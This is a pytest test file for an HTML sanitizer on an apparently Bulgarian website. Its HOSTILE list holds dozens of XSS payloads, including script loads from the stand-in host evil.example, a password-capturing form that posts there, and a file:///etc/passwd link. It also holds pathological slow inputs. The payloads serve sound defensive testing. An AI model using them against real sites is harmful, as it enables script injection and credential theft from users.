import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from core import html

# What people write who want a script to run; written by us after the well-known classes.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src/onerror=alert(1)>",
    "<img src='/files/a/b.webp' onload='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='/files/../accounts/logout/'>",
    "<img srcset='https://evil.example/a 2x' src='/files/a/b.webp'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class=button id=x name=y data-confirm=z>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=https://evil.example><input name=password><button>Вход</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#0000058alert(1)'>x</a>",
    "<a href='jav&NewLine;ascript&Tab;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ｊavascript:alert(1)'>x</a>",
    "<a href='https://evil.example' target=_top onclick=alert(1)>x</a>",
    "<a href='https://a.example\" onmouseover=\"alert(1)'>x</a>",
    "<a title='\"><script>alert(1)</script>' href='/news/'>x</a>",
    "<a href='/news/' title='<b onmouseover=alert(1)>'>x</a>",
    "<b onmouseover=alert(1)>x</b><i style='x:expression(alert(1))'>y</i>",
    "<b/onclick=alert(1)>x",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<!doctype html><html><head><title>x</title></head><body>y",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<select><option><script>alert(1)</script></select>",
    "<table><td background=javascript:alert(1)>x</table>",
    "<table><tr><td><p><svg><p><img src=x onerror=alert(1)></table>",
    "<ul><li><figure><img src=x onerror=alert(1)><figcaption><script>1</script></ul>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>\ufeff",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<p>{{ request.user.password }}{% include 'x' %}</p>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<td colspan='2' onclick=alert(1) rowspan=99999999>x</td>",
]  # fmt: skip
ADDRESSES = {"http", "https", "mailto", "tel", ""}


class Reader(HTMLParser):
    """What a browser would see: tags and attributes."""

    def __init__(self, text):
        super().__init__()
        self.seen = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.seen.append(("!--", {}))

    def handle_decl(self, decl):
        self.seen.append(("!", {}))


def assert_harmless(cleaned, tags, attributes):
    for tag, given in Reader(cleaned).seen:
        assert tag in tags
        assert set(given) <= attributes.get(tag, set()) | (
            {"rel"} if tag == "a" else set()
        )
        scheme = urlsplit((given.get("href") or "").strip()).scheme
        assert scheme in ADDRESSES
        if "src" in given:
            assert html.OWN_FILE.fullmatch(given["src"])


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_runs_is_left(text):
    for sample in (text, f"<p>{text}</p>", f"<table><tr><td>{text}", text.upper()):
        staff, member = html.clean_staff(sample), html.clean_member(sample)

        assert_harmless(staff, html.STAFF_TAGS, html.STAFF_ATTRIBUTES)
        assert_harmless(member, html.MEMBER_TAGS, html.MEMBER_ATTRIBUTES)
        # Reading it once more changes nothing: no meaning is hidden in the spelling.
        assert html.clean_staff(staff) == staff
        assert html.clean_member(member) == member
        assert_harmless(
            html.from_plain(sample),
            {"p", "br", "a"},
            {"a": {"href"}},
        )


def test_what_means_something_stays():
    text = (
        '<h2>Заглавие</h2><p><b>Важно</b> и <i>тихо</i>, <a href="/news/">тук</a></p>'
        '<figure><img src="/files/AbC_1-x/снимка.webp?w=640" alt="Среща">'
        "<figcaption>Русе</figcaption></figure>"
        '<table><caption>x</caption><tbody><tr><th scope="row">1</th><td colspan="2">2</td></tr>'
        "</tbody></table>"
    )

    cleaned = html.clean_staff(text)

    assert cleaned == text.replace("<b>", "<strong>").replace(
        "</b>", "</strong>"
    ).replace("<i>", "<em>").replace("</i>", "</em>").replace(
        '<a href="/news/">', '<a href="/news/" rel="noopener">'
    )


def test_members_have_no_pictures_and_their_links_vouch_for_nothing():
    cleaned = html.clean_member(
        '<h2>x</h2><p><a href="https://a.example">y</a><img src="/files/a/b.webp"></p>'
    )

    assert "<img" not in cleaned
    assert "<h2>" not in cleaned
    assert 'rel="nofollow ugc noopener noreferrer"' in cleaned


def test_plain_text_becomes_paragraphs_and_links():
    text = "Първи ред\nвтори & <b>\n\nВижте https://a.example/x?a=1&b=2."

    assert html.from_plain(text) == (
        "<p>Първи ред<br>втори &amp; &lt;b&gt;</p>"
        '<p>Вижте <a href="https://a.example/x?a=1&amp;b=2" rel="noopener">'
        "https://a.example/x?a=1&amp;b=2</a>.</p>"
    )


@pytest.mark.parametrize(
    ("stored", "typed"),
    [
        ("<p>Първо.<br>Още.</p><p>Второ &lt;b&gt;.</p>", "Първо.\nОще.\n\nВторо <b>."),
        (
            html.from_plain("Вижте https://example.org/a."),
            "Вижте https://example.org/a.",
        ),
        ("<p>Елате <strong>всички</strong>.</p>", ""),
        ('<p><a href="https://example.org">тук</a></p>', ""),
        ("<h2>Кога</h2>", ""),
    ],
)
def test_plain_text_is_given_back_as_it_was_typed(stored, typed):
    assert html.as_typed(stored) == typed


def test_text_of_keeps_the_words_apart():
    assert (
        html.text_of(
            "<h2>Едно</h2><p>две<br>три &amp; <b>че</b>тири</p><script>x</script>"
        )
        == "Едно две три & четири"
    )


LONG = 20_000
SLOW = [
    "<b>" * (LONG // 3),
    "<a href=x>" * (LONG // 10),
    "<p><table><tr><td>" * (LONG // 18),
    "<div><i><b>" * (LONG // 11),
    "&" * LONG,
    "<" * LONG,
    "<!--" * (LONG // 4),
    "http://" * (LONG // 7),
    "http://" + "." * LONG,
    "http://a.a" * (LONG // 10),
    "<b " * (LONG // 3),
    "\n" * LONG,
    "\n " * (LONG // 2),
    "\n" + " " * LONG + "x",
    '<img src="/files/' + "a" * LONG,
    "<img alt='" + ">" * LONG,
    "а" * LONG,
]


@pytest.mark.parametrize("text", SLOW)
@pytest.mark.parametrize(
    "handler", [html.clean_staff, html.clean_member, html.from_plain, html.text_of]
)
def test_no_text_takes_long(text, handler):
    start = time.process_time()

    handler(text)

    assert time.process_time() - start < 0.2
